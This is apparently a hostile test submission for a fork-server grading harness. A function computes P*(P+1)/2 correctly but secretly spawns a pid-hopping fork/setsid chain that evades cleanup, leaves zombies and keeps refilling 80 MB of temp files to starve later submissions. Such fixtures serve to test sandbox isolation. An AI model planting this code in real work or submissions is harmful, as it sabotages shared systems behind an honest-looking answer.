# what: causal_pairs (right) starts a chain of processes that keeps changing its pid (fork,
# the parent exits, the child starts a session of its own, again) for up to 50 s, and keeps
# 80 MB of files (named @@MARKER@@) in its temporary folder, writing them again whenever they
# are removed: whatever runs next beside that folder (the next submission of a fork server)
# would find the disk full
# category: leftover
# expect-lost: none
# ruff: noqa  (deliberately hostile code)
import os
import tempfile
import time

_started = False


def _fill(paths):
    block = b"\0" * (1 << 20)
    for path in paths:
        if os.path.exists(path):
            continue
        try:
            with open(path, "wb") as stream:
                for _ in range(40):
                    stream.write(block)
        except OSError:
            pass


def _chain():
    paths = [os.path.join(tempfile.gettempdir(), f"@@MARKER@@-chain-{i}") for i in range(2)]
    end = time.monotonic() + 50
    generation = 0
    while time.monotonic() < end:
        if os.fork() != 0:
            os._exit(0)
        os.setsid()
        time.sleep(0.002)  # a few hundred links a second: each zombie it leaves is a pid of the machine
        generation += 1
        if generation % 20 == 1:
            _fill(paths)
    os._exit(0)


def causal_pairs(P):
    global _started
    if not _started:
        _started = True
        if os.fork() == 0:
            try:
                _chain()
            finally:
                os._exit(0)
    return P * (P + 1) // 2
